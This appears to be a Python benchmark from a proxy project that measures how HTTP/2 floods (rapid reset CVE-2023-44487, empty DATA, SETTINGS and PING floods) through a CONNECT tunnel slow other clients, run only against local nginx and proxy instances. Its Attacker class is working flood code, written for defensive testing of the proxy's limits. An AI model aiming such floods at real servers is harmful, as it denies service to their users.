#!/usr/bin/env python3
"""
h2flood: what one HTTP/2 client flooding the proxy costs everyone else.

    .venv/bin/python bench/h2flood.py                      # 20,000 HEADERS+RST_STREAM pairs
    .venv/bin/python bench/h2flood.py --flood empty-data --count 1000000
    .venv/bin/python bench/h2flood.py --flood ping --count 200000
    .venv/bin/python bench/h2flood.py --set http2_max_resets=0    # a limit off

An attacker opens a CONNECT tunnel through the proxy to an h2 backend,
starts TLS (ALPN h2) and writes, as fast as the socket takes them:

  rst         --count pairs of HEADERS (GET, END_STREAM) + RST_STREAM(CANCEL)
              (CVE-2023-44487, "rapid reset")
  empty-data  one stream, then --count DATA frames without payload
  settings    --count SETTINGS frames
  ping        --count PING frames

Meanwhile a second client (a new connection: CONNECT, TLS, h2, one GET)
asks the proxy for a page every 50 ms and times each answer.  Printed: how
long the attacker took to send, what the proxy answered it (GOAWAY and its
code), the CPU seconds the proxy spent from the start of the flood until
it went quiet, and the second client's slowest and median wait.

The backend is a private nginx (TLS + h2, `return 200`), the proxy is
`twistd interceptor` from this checkout's .venv; both run in their own
session and are stopped by their own pid (SIGTERM, then SIGKILL).  Only
127.0.0.1 is used; every wait is bounded.
"""

from __future__ import annotations

import argparse
import os
import select
import shutil
import socket
import ssl
import statistics
import subprocess
import sys
import tempfile
import threading
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ConnectionTerminated, ResponseReceived, StreamEnded
from h2.exceptions import ProtocolError

from tcpbench import HOST, Proc, free_port, wait_listen

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def cpu_seconds(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def make_cert(directory: str) -> tuple[str, str]:
    cert, key = os.path.join(directory, "cert.pem"), os.path.join(directory, "key.pem")
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
         "-keyout", key, "-out", cert, "-days", "2", "-nodes", "-subj", "/CN=127.0.0.1",
         "-addext", "subjectAltName=IP:127.0.0.1"],
        check=True, capture_output=True, timeout=30,
    )
    return cert, key


def start_nginx(directory: str, port: int) -> Proc:
    cert, key = make_cert(directory)
    prefix = os.path.join(directory, "nginx")
    os.makedirs(os.path.join(prefix, "logs"), exist_ok=True)
    conf = os.path.join(prefix, "nginx.conf")
    with open(conf, "w") as f:
        f.write(f"""
worker_processes 1;
pid {prefix}/nginx.pid;
daemon off;
events {{ worker_connections 4096; }}
http {{
  access_log off;
  client_body_temp_path {prefix}/tmp;
  proxy_temp_path {prefix}/tmp;
  fastcgi_temp_path {prefix}/tmp;
  uwsgi_temp_path {prefix}/tmp;
  scgi_temp_path {prefix}/tmp;
  server {{
    listen {HOST}:{port} ssl http2;
    ssl_certificate {cert};
    ssl_certificate_key {key};
    location / {{ return 200 "ok\\n"; }}
  }}
}}
""")
    proc = Proc(["nginx", "-p", prefix + "/", "-c", conf, "-e", f"{prefix}/logs/error.log"],
                os.path.join(directory, "nginx.log"))
    wait_listen(port, proc)
    return proc


def start_proxy(directory: str, port: int, sets: list[str], twistd: str, flags: list[str]) -> Proc:
    argv = [twistd, "-n", "--pidfile=", "interceptor", *flags,
            "--listen", f"tcp:{port}:interface={HOST}", "--confdir", os.path.join(directory, "conf"),
            "--set", "ssl_insecure=true"]
    for item in sets:
        argv += ["--set", item]
    proc = Proc(argv, os.path.join(directory, "proxy.log"))
    wait_listen(port, proc)
    return proc


def tunnel(proxy_port: int, backend_port: int, timeout: float = 10.0) -> ssl.SSLSocket:
    """
    CONNECT through the proxy, then TLS with ALPN h2 (the proxy's
    certificate is not checked: this measures time, not trust).
    """
    sock = socket.create_connection((HOST, proxy_port), timeout=timeout)
    target = f"{HOST}:{backend_port}".encode()
    sock.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))
    # (The proxy says nothing after its answer until the ClientHello, so
    # the buffered reader takes nothing of TLS.)
    with sock.makefile("rb") as reply:
        status = reply.readline(1024)
        while reply.readline(1024) not in (b"\r\n", b""):
            pass
    if b" 200 " not in status:
        raise ConnectionError(f"CONNECT answered {status[:80]!r}")
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    tls = ctx.wrap_socket(sock, server_hostname=HOST)
    if tls.selected_alpn_protocol() != "h2":
        raise ConnectionError(f"ALPN gave {tls.selected_alpn_protocol()!r}, not h2")
    return tls


def request_fields(backend_port: int, path: str = "/") -> list[tuple[str, str]]:
    return [(":method", "GET"), (":scheme", "https"),
            (":authority", f"{HOST}:{backend_port}"), (":path", path)]


class Attacker(threading.Thread):
    """
    Writes the flood (made up front) and reads what the proxy answers, in
    one loop on a non-blocking socket, until the proxy closes the
    connection or --read-timeout passes after the last byte went out.
    """

    def __init__(self, args: argparse.Namespace) -> None:
        super().__init__(daemon=True)
        self.args = args
        self.sent_frames = 0
        self.send_seconds: float | None = None
        self.send_error: str | None = None
        self.goaway: ConnectionTerminated | None = None
        self.closed_after: float | None = None
        self.t0 = time.monotonic()
        self.started = threading.Event()

    def run(self) -> None:
        args = self.args
        tls = tunnel(args.proxy_port, args.backend_port)
        conn = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False))
        conn.initiate_connection()
        tls.sendall(conn.data_to_send())
        flood, frames = self._make_flood(conn)
        per_frame = len(flood) / frames
        tls.setblocking(False)
        self.started.set()
        self.t0 = time.monotonic()
        view, offset = memoryview(flood), 0
        deadline = None
        try:
            while True:
                now = time.monotonic()
                if offset >= len(flood) and deadline is None:
                    self.send_seconds = now - self.t0
                    deadline = now + args.read_timeout
                if deadline is not None and now > deadline:
                    return
                want_write = offset < len(flood)
                readable, writable, _ = select.select([tls], [tls] if want_write else [], [], 0.5)
                if readable or tls.pending():
                    if self._read(tls, conn):
                        self.closed_after = time.monotonic() - self.t0
                        return
                if writable:
                    try:
                        offset += tls.send(view[offset:offset + (1 << 16)])
                    except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                        pass
                    except OSError as e:
                        self.send_error = f"{type(e).__name__}: {e}"
                        offset = len(flood)
                    self.sent_frames = min(frames, int(offset / per_frame))
        finally:
            if self.send_seconds is None:
                self.send_seconds = time.monotonic() - self.t0
            tls.close()

    def _make_flood(self, conn: H2Connection) -> tuple[bytes, int]:
        args, count, kind = self.args, self.args.count, self.args.flood
        fields = request_fields(args.backend_port)
        if kind == "rst":
            for _ in range(count):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, fields, end_stream=True)
                conn.reset_stream(sid)
            return conn.data_to_send(), count
        if kind == "empty-data":
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "POST")] + fields[1:])
            frame = b"\x00\x00\x00\x00\x00" + sid.to_bytes(4, "big")
            return conn.data_to_send() + frame * count, count
        if kind == "settings":
            return b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" * count, count
        return b"".join(b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + i.to_bytes(8, "big")
                        for i in range(count)), count

    def _read(self, tls: ssl.SSLSocket, conn: H2Connection) -> bool:
        """
        Read what is there; whether the proxy closed the connection.
        """
        while True:
            try:
                data = tls.recv(1 << 16)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return False
            except OSError:
                return True
            if not data:
                return True
            try:
                events = conn.receive_data(data)
            except ProtocolError:
                continue
            for event in events:
                if isinstance(event, ConnectionTerminated) and self.goaway is None:
                    self.goaway = event


def one_request(args: argparse.Namespace) -> float:
    """
    A new client: CONNECT, TLS, one GET; the seconds until its response
    ended (inf if it failed).
    """
    start = time.monotonic()
    try:
        tls = tunnel(args.proxy_port, args.backend_port, timeout=args.victim_timeout)
        tls.settimeout(args.victim_timeout)
        conn = H2Connection(H2Configuration(client_side=True))
        conn.initiate_connection()
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request_fields(args.backend_port, "/victim"), end_stream=True)
        tls.sendall(conn.data_to_send())
        status = None
        while True:
            data = tls.recv(1 << 16)
            if not data:
                return float("inf")
            for event in conn.receive_data(data):
                if isinstance(event, ResponseReceived):
                    status = dict(event.headers).get(b":status")
                if isinstance(event, StreamEnded) and event.stream_id == sid:
                    tls.close()
                    return time.monotonic() - start if status == b"200" else float("inf")
            out = conn.data_to_send()
            if out:
                tls.sendall(out)
    except (OSError, ProtocolError):
        return float("inf")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--flood", choices=["rst", "empty-data", "settings", "ping"], default="rst")
    ap.add_argument("--count", type=int, default=20000, help="frames (rst: pairs) to send")
    ap.add_argument("--set", action="append", default=[], metavar="NAME=VALUE",
                    help="an option for the proxy (repeatable)")
    ap.add_argument("--flows", action="store_true",
                    help="let the proxy print its flows (to a file), as twistd interceptor does by default")
    ap.add_argument("--twistd", default=os.path.join(ROOT, ".venv", "bin", "twistd"))
    ap.add_argument("--read-timeout", type=float, default=15.0,
                    help="how long the attacker reads the proxy's answer after sending")
    ap.add_argument("--victim-timeout", type=float, default=60.0)
    ap.add_argument("--max-seconds", type=float, default=180.0, help="hard stop of the whole run")
    args = ap.parse_args()
    for tool in ("nginx", "openssl"):
        if shutil.which(tool) is None:
            print(f"missing tool: {tool}", file=sys.stderr)
            return 2
    workdir = tempfile.mkdtemp(prefix="h2flood-")
    args.backend_port, args.proxy_port = free_port(), free_port()
    nginx = start_nginx(workdir, args.backend_port)
    proxy = None
    deadline = time.monotonic() + args.max_seconds
    try:
        proxy = start_proxy(workdir, args.proxy_port, args.set, args.twistd, [] if args.flows else ["-q"])
        baseline = [one_request(args) for _ in range(3)]
        print(f"second client before the flood: {min(baseline) * 1000:.1f} ms")
        cpu_before = cpu_seconds(proxy.pid)
        attacker = Attacker(args)
        attacker.start()
        attacker.started.wait(30)
        waits = []
        while attacker.is_alive() and time.monotonic() < deadline:
            waits.append(one_request(args))
            time.sleep(0.05)
        attacker.join(max(0.0, deadline - time.monotonic()))
        # The proxy has gone quiet when a second's CPU is under 5 %.
        last = cpu_seconds(proxy.pid)
        while time.monotonic() < deadline:
            time.sleep(1.0)
            now = cpu_seconds(proxy.pid)
            if now - last < 0.05:
                break
            last = now
        cpu = cpu_seconds(proxy.pid) - cpu_before
        goaway = attacker.goaway
        answer = (f"GOAWAY {goaway.error_code!r} after stream {goaway.last_stream_id}, "
                  f"{(goaway.additional_data or b'').decode(errors='replace')!r}") if goaway else "no GOAWAY"
        closed = (f"connection closed {attacker.closed_after:.2f} s after the flood began"
                  if attacker.closed_after is not None else "connection still open")
        print(f"flood: {args.flood} x {attacker.sent_frames} written to the socket in {attacker.send_seconds or 0:.2f} s"
              + (f" (sending stopped: {attacker.send_error})" if attacker.send_error else ""))
        print(f"proxy answered the attacker: {answer}; {closed}")
        print(f"proxy CPU from the flood until quiet: {cpu:.2f} s")
        finite = [w for w in waits if w != float("inf")]
        if waits:
            print(f"second client during the flood: {len(waits)} requests, {len(waits) - len(finite)} failed, "
                  f"slowest {max(waits):.2f} s, median {statistics.median(waits):.3f} s")
        return 0
    finally:
        if proxy is not None:
            proxy.stop()
        nginx.stop()
        shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
